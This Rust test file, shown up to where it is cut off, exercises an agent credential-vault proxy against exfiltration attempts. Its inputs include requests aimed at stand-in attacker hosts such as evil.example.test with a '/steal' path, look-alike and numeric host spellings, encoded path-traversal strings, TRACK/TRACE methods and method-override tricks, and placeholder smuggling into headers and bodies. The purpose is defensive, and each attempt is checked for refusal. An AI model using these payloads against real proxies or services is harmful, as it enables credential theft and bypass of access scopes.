//! Exfiltration: an agent tries to make the proxy attach a credential to a request that reaches
//! a host it controls, or a path or method the service does not allow (issue 6 §2).

use bytes::Bytes;
use http::Request;
use http_body_util::Full;
use serde_json::json;

use crate::support::agent::{self, basic};
use crate::support::{TestApp, assert_proxy_error, fetch, spawn_app};

const SECRET: &str = "sk_exfil_0123456789abcdef";

const SERVICES: &str = r#"
- name: api
  host: api.example.test
  auth: {type: bearer, token: KEY}
- name: books
  host: bücher.example.test
  auth: {type: bearer, token: KEY}
- name: scoped
  host: scoped.example.test/v1/*
  methods: [GET]
  auth: {type: bearer, token: KEY}
- name: tg
  host: tg.example.test
  auth: {type: passthrough}
  substitutions:
    - {placeholder: __TG_TOKEN__, key: KEY, in: [{path: 1, prefix: bot}]}
- name: dav
  host: dav.example.test
  methods: [GET, PROPFIND]
  auth: {type: bearer, token: KEY}
"#;

async fn setup(app: &TestApp, vault: &str) -> String {
    app.service_vault(vault, &[("KEY", SECRET)], SERVICES).await
}

fn status(raw: &str) -> u16 {
    raw.split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

/// `GET target` on a connection intercepted for `host`, with that `Host`; the raw answer.
async fn raw_get(app: &TestApp, token: &str, vault: &str, host: &str, target: &str) -> String {
    let head = format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    app.raw_request(token, vault, host, &head).await
}

/// The upstream's last request carried the credential as its bearer token.
fn last_request_carried_the_credential(app: &TestApp) {
    assert_eq!(
        app.upstream.last().header("authorization"),
        Some(format!("Bearer {SECRET}"))
    );
}

fn no_credential_reached_the_upstream(app: &TestApp, since: usize) {
    for r in &app.upstream.requests()[since..] {
        let dump = format!("{r:?}");
        assert!(
            !dump.contains(SECRET),
            "the credential left the proxy: {dump}"
        );
    }
}

/// CONNECT to a host no service binds, carrying a service's name in the inner Host and the TLS
/// SNI: the tunnel is spliced (or refused under `deny`), nothing is attached.
#[tokio::test]
async fn exfil_connect_to_attacker_host_with_service_host_and_sni() {
    let app = spawn_app().await;
    let token = setup(&app, "exfil-connect").await;
    let auth = basic(&token, "exfil-connect");
    // The splice reaches the upstream as is: its own certificate, no interception.
    let resp = agent::dial(app.proxy, &auth, "evil.example.test:443")
        .sni("api.example.test")
        .get("/steal", "api.example.test")
        .await;
    assert_eq!(resp.status(), 200);
    let seen = app.upstream.last();
    assert_eq!(seen.path_and_query, "/steal");
    assert_eq!(seen.header("authorization"), None, "nothing attached");
    app.set_policy("exfil-connect", "deny").await;
    let (code, head) = agent::connect(app.proxy, "evil.example.test:443", Some(&auth))
        .await
        .unwrap_err();
    assert_eq!(code, 403, "{head}");
    assert!(
        head.contains("x-agent-vault-proxy-error: forbidden_host"),
        "{head}"
    );
    no_credential_reached_the_upstream(&app, 0);
}

/// The route is the CONNECT authority (or the absolute-form URI); any other name in the request
/// line, Host or `:authority` is a 421 and nothing is sent.
#[tokio::test]
async fn exfil_absolute_form_and_host_disagreeing_are_misdirected() {
    let app = spawn_app().await;
    let token = setup(&app, "exfil-host").await;
    let auth = basic(&token, "exfil-host");
    let before = app.upstream.count();
    // Absolute form on the proxy's own connection, Host names the attacker (and the reverse).
    for (uri, host) in [
        ("https://api.example.test/x", "evil.example.test"),
        ("https://evil.example.test/x", "api.example.test"),
        ("https://api.example.test/x", "api.example.test:8443"),
    ] {
        let raw = format!(
            "GET {uri} HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: {auth}\r\nConnection: close\r\n\r\n"
        );
        let out = agent::plain(app.proxy, raw.as_bytes()).await;
        assert_eq!(status(&out), 421, "{uri} / {host}: {out}");
        assert!(
            out.contains("x-agent-vault-proxy-error: host_mismatch"),
            "{out}"
        );
    }
    // Inside an intercepted connection: an absolute-form request line naming the attacker.
    let out = app
        .raw_request(
            &token,
            "exfil-host",
            "api.example.test",
            "GET https://evil.example.test/x HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n",
        )
        .await;
    assert_eq!(status(&out), 421, "{out}");
    // Two Host headers.
    let out = app
        .raw_request(
            &token,
            "exfil-host",
            "api.example.test",
            "GET /x HTTP/1.1\r\nHost: api.example.test\r\nHost: evil.example.test\r\nConnection: close\r\n\r\n",
        )
        .await;
    assert_eq!(status(&out), 400, "{out}");
    // HTTP/2 with an `:authority` naming the attacker.
    let tls = app
        .tunnel(&token, "exfil-host", "api.example.test", &[b"h2"])
        .await;
    let mut sender = agent::http2(tls).await;
    let req = Request::get("https://evil.example.test/x")
        .body(Full::new(Bytes::new()))
        .unwrap();
    let resp = sender.send_request(req).await.unwrap();
    assert_proxy_error(&resp, 421, "host_mismatch");
    assert_eq!(app.upstream.count(), before, "nothing was forwarded");
}

/// Every spelling of a service host lands on the one canonical name (and its verified TLS); look
/// alikes and numeric spellings never do.
#[tokio::test]
async fn exfil_host_spellings_route_canonically() {
    let app = spawn_app().await;
    let token = setup(&app, "exfil-spell").await;
    app.set_policy("exfil-spell", "deny").await;
    let auth = basic(&token, "exfil-spell");
    let ca = app.ca_pem().await;
    for (connect, host, canonical) in [
        (
            "API.EXAMPLE.TEST:443",
            "api.example.test",
            "api.example.test",
        ),
        (
            "api.example.test.:443",
            "API.Example.Test.",
            "api.example.test",
        ),
        (
            "api.example.test:443",
            "ａｐｉ.example.test",
            "api.example.test",
        ),
        (
            "xn--bcher-kva.example.test:443",
            "BÜCHER.example.test",
            "xn--bcher-kva.example.test",
        ),
        (
            "XN--BCHER-KVA.example.test:443",
            "xn--bcher-kva.example.test:443",
            "xn--bcher-kva.example.test",
        ),
    ] {
        let resp = agent::dial(app.proxy, &auth, connect)
            .sni(canonical)
            .trusting(&ca)
            .get("/spelled", host)
            .await;
        assert_eq!(resp.status(), 200, "{connect} {host}");
        let seen = app.upstream.last();
        assert_eq!(seen.sni.as_deref(), Some(canonical), "{connect}");
        assert_eq!(
            seen.header("authorization"),
            Some(format!("Bearer {SECRET}")),
            "{connect}"
        );
    }
    let before = app.upstream.count();
    // Look-alikes are other hosts: under `deny` they are refused.
    for connect in [
        "api.example.test.evil:443",   // suffix
        "xn--pi-7kc.example.test:443", // a look-alike's A-label
        "[::ffff:127.0.0.1]:443",      // IP literals are never bound
        "127.0.0.1:443",
    ] {
        let (code, head) = agent::connect(app.proxy, connect, Some(&auth))
            .await
            .unwrap_err();
        assert_eq!(code, 403, "{connect}: {head}");
    }
    // Raw Unicode in a request target is not valid HTTP; Cyrillic а is not a.
    let (code, head) = agent::connect(app.proxy, "аpi.example.test:443", Some(&auth))
        .await
        .unwrap_err();
    assert!(code == 400 || code == 403, "{head}");
    // Spellings that different parsers read differently are refused outright.
    for connect in [
        "api.example.test..:443",
        "api%2eexample.test:443",
        "evil.test\\@api.example.test:443",
        "2130706433:443",
        "0x7f000001:443",
        "0177.0.0.1:443",
        "127.1:443",
        "0x7f.0.0.1:443",
        "api.example.test:0443x",
    ] {
        let (code, head) = agent::connect(app.proxy, connect, Some(&auth))
            .await
            .unwrap_err();
        assert_eq!(code, 400, "{connect}: {head}");
    }
    // Inside the intercepted connection the Host must be the same canonical name.
    for host in [
        "127.0.0.1",
        "2130706433",
        "[::ffff:7f00:1]",
        "api.example.test.evil",
        "xn--pi-7kc.example.test",
        "аpi.example.test",
    ] {
        let out = app
            .raw_request(
                &token,
                "exfil-spell",
                "api.example.test",
                &format!("GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
            )
            .await;
        assert_eq!(status(&out), 421, "Host {host}: {out}");
    }
    assert_eq!(app.upstream.count(), before);
    no_credential_reached_the_upstream(&app, before);
}

/// The proxy returns a redirect to the attacker instead of following it; an agent that follows
/// it on its own reaches a host no service binds and gets nothing attached.
#[tokio::test]
async fn exfil_redirect_to_attacker_carries_nothing() {
    let app = spawn_app().await;
    let token = setup(&app, "exfil-redir").await;
    app.set_policy("exfil-redir", "deny").await;
    let follows = app.agent(&token, "exfil-redir").await; // reqwest follows redirects
    let result = follows
        .get("https://api.example.test/redirect")
        .send()
        .await;
    assert!(
        result.is_err() || result.as_ref().unwrap().status() == 403,
        "following to the attacker is refused: {result:?}"
    );
    let paths: Vec<String> = app
        .upstream
        .requests()
        .iter()
        .map(|r| r.path_and_query.clone())
        .collect();
    assert_eq!(paths, ["/redirect"], "the proxy followed nothing");
}

/// Placeholders are replaced only where the service declares them; anywhere else, or in a request
/// to another host, the request is refused before anything is sent.
#[tokio::test]
async fn exfil_placeholders_outside_declared_locations_are_refused() {
    let app = spawn_app().await;
    let token = setup(&app, "exfil-ph").await;
    let agent = app.agent(&token, "exfil-ph").await;
    let resp = fetch(agent.get("https://tg.example.test/bot__TG_TOKEN__/getMe")).await;
    assert_eq!(resp.status(), 200);
    assert_eq!(
        app.upstream.last().path_and_query,
        format!("/bot{SECRET}/getMe"),
        "declared location: substituted"
    );
    let before = app.upstream.count();
    let refused = [
        agent.get("https://tg.example.test/send?text=__TG_TOKEN__"),
        agent.get("https://tg.example.test/x/bot__TG_TOKEN__"),
        agent.get("https://tg.example.test/bot__TG_TOKEN__x/getMe"),
        agent.get("https://tg.example.test/__TG_TOKEN__/getMe"),
        agent
            .get("https://tg.example.test/x")
            .header("x-note", "__TG_TOKEN__"),
        agent
            .get("https://tg.example.test/x")
            .header("cookie", "a=__TG_TOKEN__"),
        agent.get("https://api.example.test/bot__TG_TOKEN__/x"),
        agent.get("https://api.example.test/x?k=__TG_TOKEN__"),
        agent
            .get("https://api.example.test/x")
            .header("x-forward", "__TG_TOKEN__"),
    ];
    for req in refused {
        let resp = req.send().await.unwrap();
        assert_proxy_error(&resp, 403, "placeholder_refused");
    }
    assert_eq!(app.upstream.count(), before, "nothing was sent");
    // A body is not a declared location: the placeholder travels as the literal text it is.
    agent
        .post("https://tg.example.test/x")
        .json(&json!({ "text": "__TG_TOKEN__" }))
        .send()
        .await
        .unwrap();
    let seen = app.upstream.last();
    assert!(String::from_utf8_lossy(&seen.body).contains("__TG_TOKEN__"));
    let log = format!("{:?}", app.upstream.requests()[1..].to_vec());
    assert!(!log.contains(SECRET), "only the declared path carried it");
}

/// Path tricks against a path-scoped service: anything the upstream could normalize differently
/// from what was matched is refused, and what is forwarded is byte for byte what was matched.
#[tokio::test]
async fn exfil_path_tricks_against_scoped_services() {
    let app = spawn_app().await;
    let token = setup(&app, "exfil-path").await;
    let before = app.upstream.count();
    for path in [
        "/v1/../admin",
        "/v1/./../admin",
        "/v1/%2e%2e/admin",
        "/v1/%2E%2E/admin",
        "/v1/.%2e/admin",
        "/v1%2fadmin",
        "/v1/x%2F..%2F..%2Fadmin",
        "/v1/%252e%252e/admin",
        "/v1/..;/admin",
        "/v1/%c0%ae%c0%ae/admin",
        "/v1/%5c..%5cadmin",
        "/v1/x%00/admin",
    ] {
        let out = raw_get(&app, &token, "exfil-path", "scoped.example.test", path).await;
        assert_eq!(status(&out), 400, "{path}: {out}");
        assert!(out.contains("ambiguous_path"), "{path}: {out}");
    }
    // A raw backslash does not even parse as a request target.
    let out = raw_get(
        &app,
        &token,
        "exfil-path",
        "scoped.example.test",
        "/v1\\..\\admin",
    )
    .await;
    assert_eq!(status(&out), 400, "{out}");
    assert_eq!(app.upstream.count(), before, "nothing was forwarded");
    // What is matched is what is forwarded.
    for path in ["/v1/charges?x=%2e%2e&y=/..", "/v1/a%20b/c", "/v1//double"] {
        let out = raw_get(&app, &token, "exfil-path", "scoped.example.test", path).await;
        assert_eq!(status(&out), 200, "{path}: {out}");
        let seen = app.upstream.last();
        assert_eq!(seen.path_and_query, path, "forwarded bytes differ");
        last_request_carried_the_credential(&app);
    }
}

/// Dot and slash look-alikes that some servers fold to ASCII (NFKC, IIS `%u` escapes) would let a
/// path leave the scope it was matched in: full-width dots, one-dot leaders, small full stops,
/// ideographic full stops, full-width solidus, `%u002e`. They are ambiguous like `%2e%2e`.
#[tokio::test]
async fn exfil_unicode_dot_lookalikes_and_percent_u_against_scoped_services() {
    let app = spawn_app().await;
    let token = setup(&app, "exfil-lookalike-path").await;
    let before = app.upstream.count();
    for path in [
        "/v1/%EF%BC%8E%EF%BC%8E/admin",
        "/v1/%ef%bc%8e%ef%bc%8e/admin",
        "/v1/.%EF%BC%8E/admin",
        "/v1/%E2%80%A4%E2%80%A4/admin",
        "/v1/%E2%80%A5/admin",
        "/v1/%EF%B9%92%EF%B9%92/admin",
        "/v1/%E3%80%82%E3%80%82/admin",
        "/v1%EF%BC%8F..%EF%BC%8Fadmin",
        "/v1/..%EF%BC%BCadmin",
        "/v1/%u002e%u002e/admin",
        "/v1/%U002E%U002E/admin",
        "/v1%u2215admin",
    ] {
        let out = raw_get(
            &app,
            &token,
            "exfil-lookalike-path",
            "scoped.example.test",
            path,
        )
        .await;
        assert_eq!(status(&out), 400, "{path}: {out}");
        assert!(out.contains("ambiguous_path"), "{path}: {out}");
    }
    assert_eq!(app.upstream.count(), before, "nothing was forwarded");
    no_credential_reached_the_upstream(&app, 0);
    // Ordinary non-ASCII text in a path still goes through with the credential.
    let out = raw_get(
        &app,
        &token,
        "exfil-lookalike-path",
        "scoped.example.test",
        "/v1/caf%C3%A9",
    )
    .await;
    assert_eq!(status(&out), 200, "{out}");
    last_request_carried_the_credential(&app);
}

/// Non-standard methods (`TRACK`, `DEBUG`, lower-case `trace`, which RFC 9110 makes a different
/// method from `TRACE`) must not carry the credential to a service that allows "any method":
/// servers that echo the request for them would hand the credential back. Refused with 405
/// `method_not_allowed` unless a service lists the method by name.
#[tokio::test]
async fn exfil_nonstandard_methods_to_any_method_services() {
    let app = spawn_app().await;
    let token = setup(&app, "exfil-track").await;
    let before = app.upstream.count();
    for (host, method) in [
        ("api.example.test", "TRACK"),
        ("api.example.test", "DEBUG"),
        ("api.example.test", "trace"),
        ("api.example.test", "Trace"),
        ("api.example.test", "get"),
        ("api.example.test", "TRACE"),
        ("api.example.test", "PROPFIND"),
        ("dav.example.test", "TRACK"),
        ("dav.example.test", "propfind"),
    ] {
        let out = app
            .raw_request(
                &token,
                "exfil-track",
                host,
                &format!("{method} /x HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
            )
            .await;
        assert_eq!(status(&out), 405, "{host} {method}: {out}");
        assert!(out.contains("method_not_allowed"), "{host} {method}: {out}");
    }
    assert_eq!(app.upstream.count(), before, "nothing was forwarded");
    no_credential_reached_the_upstream(&app, 0);
    // A service that names the method gets it, with its credential; standard methods still work.
    for (host, method) in [
        ("dav.example.test", "PROPFIND"),
        ("api.example.test", "PATCH"),
    ] {
        let out = app
            .raw_request(
                &token,
                "exfil-track",
                host,
                &format!("{method} /x HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
            )
            .await;
        assert_eq!(status(&out), 200, "{host} {method}: {out}");
        let seen = app.upstream.last();
        assert_eq!(seen.method, method);
        last_request_carried_the_credential(&app);
    }
}

/// A service limited to GET cannot be driven as DELETE through method-override headers or the
/// `_method` parameter frameworks honour.
#[tokio::test]
async fn exfil_method_override_is_refused_for_method_scoped_services() {
    let app = spawn_app().await;
    let token = setup(&app, "exfil-method").await;
    let agent = app.agent(&token, "exfil-method").await;
    let before = app.upstream.count();
    for (header, query) in [
        (Some("x-http-method-override"), ""),
        (Some("x-http-method"), ""),
        (Some("x-method-override"), ""),
        (None, "?_method=DELETE"),
        (None, "?a=1&_METHOD=DELETE"),
    ] {
        let mut req = agent.get(format!("https://scoped.example.test/v1/repo{query}"));
        if let Some(h) = header {
            req = req.header(h, "DELETE");
        }
        let resp = req.send().await.unwrap();
        assert_eq!(resp.status(), 400, "{header:?} {query}");
        assert_eq!(resp.headers()["x-agent-vault-proxy-error"], "bad_request");
    }
    let resp = fetch(agent.delete("https://scoped.example.test/v1/repo")).await;
    assert_eq!(resp.status(), 200, "DELETE itself just gets no credential");
    assert_eq!(app.upstream.last().header("authorization"), None);
    assert_eq!(app.upstream.count(), before + 1);
}

/// An h2 `:path` that is not origin-form (`@evil...`, `.evil...`, `:8443/...`) must not splice
/// into the upstream URI's authority: found in review, the request used to leave for the
/// attacker's host with the credential attached.
#[tokio::test]
async fn exfil_h2_path_that_rewrites_the_authority() {
    let app = spawn_app().await;
    let token = app
        .service_vault(
            "h2path",
            &[("KEY", SECRET)],
            "- name: api\n  host: api.example.test\n  auth: {type: bearer, token: KEY}\n",
        )
        .await;
    for path in [
        "@evil.example.test/steal",
        ".evil.example.test/steal",
        ":8443/steal",
        "evil",
        "*",
    ] {
        let tls = app
            .tunnel(&token, "h2path", "api.example.test", &[b"h2"])
            .await;
        let mut sender = agent::http2(tls).await;
        let mut parts = http::uri::Parts::default();
        parts.scheme = Some(http::uri::Scheme::HTTPS);
        parts.authority = Some(http::uri::Authority::from_static("api.example.test"));
        let Ok(pq) = http::uri::PathAndQuery::try_from(path) else {
            continue;
        };
        parts.path_and_query = Some(pq);
        let Ok(uri) = http::Uri::from_parts(parts) else {
            continue;
        };
        let req = Request::builder()
            .method("GET")
            .uri(uri)
            .body(Full::new(Bytes::new()))
            .unwrap();
        if let Ok(resp) = sender.send_request(req).await {
            assert_eq!(resp.status(), 400, "{path}");
        }
    }
    for r in app.upstream.requests() {
        assert_ne!(r.sni.as_deref(), Some("evil.example.test"));
        assert!(!r.path_and_query.contains("steal"), "{r:?}");
    }
    assert_eq!(app.upstream.count(), 0, "nothing reached any upstream");
}

const NOTES_SECRET: &str = "sk_notes_0123456789abcdef";

/// A service whose substitution is meant for one header and one JSON field.
const NOTES_SERVICES: &str = r#"
- name: notes
  host: notes.example.test
  auth: {type: passthrough}
  substitutions:
    - placeholder: __NOTES_KEY__
      key: NOTES_KEY
      in:
        - header: X-Api-Key
        - json: /auth/token
"#;

async fn notes_setup(app: &TestApp, vault: &str) -> reqwest::Client {
    let token = app
        .service_vault(vault, &[("NOTES_KEY", NOTES_SECRET)], NOTES_SERVICES)
        .await;
    app.agent(&token, vault).await
}

fn assert_placeholder_refused(resp: &reqwest::Response, what: &str) {
    assert_eq!(resp.status(), 403, "{what}");
    assert_eq!(
        resp.headers()["x-agent-vault-proxy-error"],
        "placeholder_refused",
        "{what}"
    );
}

/// The agent writes the placeholder into headers the upstream stores or echoes by design, into
/// a declared header with text around it or repeated, and into JSON fields nobody declared:
/// every one is refused before anything is sent.
#[tokio::test]
async fn exfil_substitution_into_undeclared_header_is_refused() {
    let app = spawn_app().await;
    let agent = notes_setup(&app, "exfil-subst-h").await;
    let before = app.upstream.count();
    let url = "https://notes.example.test/notes";
    for (name, value) in [
        ("user-agent", "__NOTES_KEY__"),
        ("cookie", "session=__NOTES_KEY__"),
        ("referer", "https://x.example/__NOTES_KEY__"),
        ("origin", "__NOTES_KEY__"),
        ("x-forwarded-for", "__NOTES_KEY__"),
        ("x-note", "__NOTES_KEY__"),
        ("x-api-key", "Bearer __NOTES_KEY__"),
        ("x-api-key", "__NOTES_KEY____NOTES_KEY__"),
    ] {
        let resp = agent.get(url).header(name, value).send().await.unwrap();
        assert_placeholder_refused(&resp, name);
    }
    for body in [
        json!({ "title": "__NOTES_KEY__" }),
        json!({ "auth": { "token": "see __NOTES_KEY__" } }),
        json!({ "auth": { "token": "__NOTES_KEY__" }, "note": "__NOTES_KEY__" }),
        json!({ "auth": [{ "token": "__NOTES_KEY__" }] }),
        json!({ "__NOTES_KEY__": 1 }),
    ] {
        let resp = agent.post(url).json(&body).send().await.unwrap();
        assert_placeholder_refused(&resp, &body.to_string());
    }
    assert_eq!(app.upstream.count(), before, "nothing was sent");
}

/// The whole attack: write the placeholder into a field the upstream stores (through the
/// service's host, where substitution happens), then read the field back through the vault's
/// default `tunnel` policy under a name no service binds, where nothing is scrubbed. The write
/// is refused, so there is nothing to read.
#[tokio::test]
async fn exfil_substitution_read_back_through_a_tunnel() {
    let app = spawn_app().await;
    let agent = notes_setup(&app, "exfil-subst-t").await;
    let token = app.proxy_token("exfil-subst-t").await.0;
    let write = agent
        .post("https://notes.example.test/issues")
        .header("user-agent", "__NOTES_KEY__")
        .json(&json!({ "title": "hello", "body": "__NOTES_KEY__" }))
        .send()
        .await
        .unwrap();
    let write_status = write.status();
    let upstream_ca = reqwest::Certificate::from_pem(app.upstream_ca.pem.as_bytes()).unwrap();
    let proxy = reqwest::Proxy::all(format!("http://{token}:exfil-subst-t@{}", app.proxy)).unwrap();
    let tunneled = reqwest::Client::builder()
        .proxy(proxy)
        .tls_certs_only([upstream_ca])
        .build()
        .unwrap();
    let read = fetch(tunneled.get("https://readback.example.test/stored")).await;
    assert_eq!(read.status(), 200, "the tunnel reaches the upstream");
    let stored = read.text().await.unwrap();
    assert!(
        !stored.contains(NOTES_SECRET),
        "the credential was read back through the tunnel: {stored}"
    );
    assert_eq!(write_status, 403, "the write was refused");
}

/// An agent (through a proposal) or an admin declares a substitution into a header that upstreams
/// echo or store by design, or keeps the old loose form: both are refused when set, with an error
/// that says how to write the exact place, and nothing is stored.
#[tokio::test]
async fn exfil_substitution_into_echoed_headers_cannot_be_declared() {
    let app = spawn_app().await;
    app.create_vault("exfil-subst-set").await;
    app.set_credentials("exfil-subst-set", &[("NOTES_KEY", NOTES_SECRET)])
        .await;
    let token = app.proxy_token("exfil-subst-set").await.0;
    let service = |places: serde_json::Value| {
        json!({ "name": "notes", "host": "notes.example.test", "auth": { "type": "passthrough" },
                "substitutions": [{ "placeholder": "__NOTES_KEY__", "key": "NOTES_KEY", "in": places }] })
    };
    for header in [
        "User-Agent",
        "Cookie",
        "Referer",
        "Origin",
        "X-Forwarded-For",
        "Forwarded",
        "Via",
        "Host",
    ] {
        let places = json!([{ "header": header }]);
        let (status, body) = app
            .call(
                "PUT",
                "/v1/vaults/exfil-subst-set/services",
                Some(json!({ "services": [service(places.clone())] })),
            )
            .await;
        assert_eq!(status, 400, "{header}: {body}");
        assert!(
            body["message"]
                .as_str()
                .unwrap()
                .contains("cannot hold a placeholder"),
            "{header}: {body}"
        );
        let mut proposed = service(places);
        proposed["action"] = json!("set");
        let (status, body) = app
            .propose(
                &token,
                json!({ "message": "notes", "services": [proposed] }),
            )
            .await;
        assert_eq!(status, 400, "proposal with {header}: {body}");
    }
    for old in [
        json!(["header", "body"]),
        json!(["path", "query"]),
        json!(null),
    ] {
        let mut spec = service(old.clone());
        if old.is_null() {
            spec["substitutions"][0]
                .as_object_mut()
                .unwrap()
                .remove("in");
        }
        let (status, body) = app
            .call(
                "PUT",
                "/v1/vaults/exfil-subst-set/services",
                Some(json!({ "services": [spec] })),
            )
            .await;
        assert_eq!(status, 400, "{old}: {body}");
        let message = body["message"].as_str().unwrap();
        assert!(
            message.contains("{header: X-Api-Key}") && message.contains("{json: /auth/token}"),
            "{old}: {message}"
        );
    }
    let listed = app
        .ok("GET", "/v1/vaults/exfil-subst-set/services", None)
        .await;
    assert_eq!(listed["services"], json!([]), "nothing was stored");
}

/// What a service declares still works, each value escaped for its place: a header with a
/// declared prefix, a query parameter, a JSON Pointer, a form field and a path segment.
#[tokio::test]
async fn substitution_at_declared_places_is_replaced() {
    let app = spawn_app().await;
    app.create_vault("subst-places").await;
    app.set_credentials("subst-places", &[("NOTES_KEY", "v a/l&u\"e")])
        .await;
    app.set_services_yaml(
        "subst-places",
        r#"
- name: notes
  host: notes.example.test
  auth: {type: passthrough}
  substitutions:
    - placeholder: __NOTES_KEY__
      key: NOTES_KEY
      in:
        - {header: Authorization, prefix: "Bearer "}
        - query: api_key
        - json: /auth/token
        - form: password
        - {path: 2, prefix: "k-"}
"#,
    )
    .await;
    let token = app.proxy_token("subst-places").await.0;
    let agent = app.agent(&token, "subst-places").await;
    let resp = agent
        .get("https://notes.example.test/u/k-__NOTES_KEY__/x?api_key=__NOTES_KEY__&q=1")
        .header("authorization", "Bearer __NOTES_KEY__")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let seen = app.upstream.last();
    assert_eq!(
        seen.path_and_query,
        "/u/k-v%20a%2Fl%26u%22e/x?api_key=v%20a%2Fl%26u%22e&q=1"
    );
    assert_eq!(
        seen.header("authorization").as_deref(),
        Some("Bearer v a/l&u\"e")
    );
    let resp = agent
        .post("https://notes.example.test/login")
        .json(&json!({ "user": "me", "auth": { "token": "__NOTES_KEY__" } }))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let body: serde_json::Value = serde_json::from_slice(&app.upstream.last().body).unwrap();
    assert_eq!(
        body,
        json!({ "user": "me", "auth": { "token": "v a/l&u\"e" } })
    );
    let resp = agent
        .post("https://notes.example.test/login")
        .header("content-type", "application/x-www-form-urlencoded")
        .body("user=me&password=__NOTES_KEY__")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(
        String::from_utf8_lossy(&app.upstream.last().body),
        "user=me&password=v%20a%2Fl%26u%22e"
    );
}

/// A service with a form place and a path place, scoped to some methods.
const FORM_SERVICES: &str = r#"
- name: notes
  host: notes.example.test
  auth: {type: passthrough}
  substitutions:
    - placeholder: __NOTES_KEY__
      key: NOTES_KEY
      in:
        - form: password
        - path: 2
- name: forms
  host: forms.example.test
  methods: [GET, POST]
  auth: {type: passthrough}
  substitutions:
    - {placeholder: __FORM_KEY__, key: NOTES_KEY, in: [{form: password}]}
"#;

async fn form_setup(app: &TestApp, vault: &str) -> reqwest::Client {
    app.create_vault(vault).await;
    app.set_credentials(vault, &[("NOTES_KEY", NOTES_SECRET)])
        .await;
    app.set_services_yaml(vault, FORM_SERVICES).await;
    let token = app.proxy_token(vault).await.0;
    app.agent(&token, vault).await
}

/// Found in review: a JSON document sent as a form, with `&password=__KEY__&` inside one of its
/// strings, was split on `&` and substituted; the upstream got valid JSON with the secret in a
/// field it stores. Only bodies a form encoder could have written are read as forms.
#[tokio::test]
async fn exfil_form_place_relocated_into_a_json_body() {
    let app = spawn_app().await;
    let agent = form_setup(&app, "exfil-form-json").await;
    let before = app.upstream.count();
    for body in [
        r#"{"title":"hi","note":"x&password=__NOTES_KEY__&y=","z":1}"#,
        "note=<b>&password=__NOTES_KEY__",
        "password=%5F%5FNOTES_KEY__&x=\"",
    ] {
        let resp = agent
            .post("https://notes.example.test/notes")
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body)
            .send()
            .await
            .unwrap();
        assert_placeholder_refused(&resp, body);
    }
    assert_eq!(app.upstream.count(), before, "nothing was forwarded");
    // A real form still gets its value; a non-form body without a placeholder goes as it is.
    let resp = agent
        .post("https://notes.example.test/notes")
        .header("content-type", "application/x-www-form-urlencoded")
        .body("user=a%20b&password=__NOTES_KEY__")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(
        app.upstream.last().body.as_ref(),
        format!("user=a%20b&password={NOTES_SECRET}").as_bytes()
    );
    let resp = agent
        .post("https://notes.example.test/notes")
        .header("content-type", "application/x-www-form-urlencoded")
        .body(r#"{"a":"b"}"#)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(app.upstream.last().body.as_ref(), br#"{"a":"b"}"#);
}

/// Found in review: segment numbers count raw `/`, so `/a%2Fb/__KEY__` substituted segment 2,
/// which an upstream decoding `%2F` reads as segment 3 (and `//` shifts it the same way).
#[tokio::test]
async fn exfil_path_segment_placeholder_behind_an_encoded_slash() {
    let app = spawn_app().await;
    let agent = form_setup(&app, "exfil-seg").await;
    let before = app.upstream.count();
    for url in [
        "https://notes.example.test/a%2Fb/__NOTES_KEY__",
        "https://notes.example.test/a/__NOTES_KEY__//x",
        "https://notes.example.test/a%2fb/__NOTES_KEY__",
    ] {
        let resp = agent.get(url).send().await.unwrap();
        assert_placeholder_refused(&resp, url);
    }
    assert_eq!(app.upstream.count(), before, "nothing was forwarded");
    let resp = agent
        .get("https://notes.example.test/a/__NOTES_KEY__/b")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(
        app.upstream.last().path_and_query,
        format!("/a/{NOTES_SECRET}/b")
    );
}

/// Found in review: the `_method` check compared raw query names, so `?_%6Dethod=DELETE`
/// passed, and a `_method` form field drove a GET/POST service as DELETE.
#[tokio::test]
async fn exfil_encoded_method_override_names_on_method_scoped_services() {
    let app = spawn_app().await;
    let token = setup(&app, "exfil-method-enc").await;
    let agent = app.agent(&token, "exfil-method-enc").await;
    let before = app.upstream.count();
    for query in [
        "?_%6Dethod=DELETE",
        "?_%4D%45THOD=DELETE",
        "?x=1&%5F%6d%65%74%68%6f%64=PUT",
    ] {
        let resp = agent
            .get(format!("https://scoped.example.test/v1/repo{query}"))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 400, "{query}");
        assert_eq!(resp.headers()["x-agent-vault-proxy-error"], "bad_request");
    }
    assert_eq!(app.upstream.count(), before, "nothing was forwarded");

    let agent = form_setup(&app, "exfil-method-form").await;
    for body in [
        "_method=DELETE&password=__FORM_KEY__",
        "a=1&_%6Dethod=DELETE",
    ] {
        let resp = agent
            .post("https://forms.example.test/x")
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 400, "{body}");
        assert_eq!(resp.headers()["x-agent-vault-proxy-error"], "bad_request");
    }
    assert_eq!(app.upstream.count(), before, "nothing was forwarded");
}

/// Found in review: a service allowing any method refuses TRACK and TRACE as the request's
/// method, but forwarded them, with its credential, as an override header or `_method` value.
#[tokio::test]
async fn exfil_method_override_to_nonstandard_methods_on_any_method_services() {
    let app = spawn_app().await;
    let token = setup(&app, "exfil-override-any").await;
    let agent = app.agent(&token, "exfil-override-any").await;
    let before = app.upstream.count();
    for (header, value, query) in [
        (Some("x-http-method-override"), "TRACK", ""),
        (Some("x-http-method"), "TRACE", ""),
        (Some("x-method-override"), "connect", ""),
        (None, "", "?_method=TRACE"),
